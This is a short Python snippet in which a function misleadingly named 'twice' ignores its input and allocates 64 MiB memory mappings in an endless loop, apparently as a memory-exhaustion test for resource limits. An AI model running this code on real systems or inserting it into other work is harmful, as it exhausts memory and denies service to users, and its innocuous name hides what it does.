import mmap


def twice(x):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
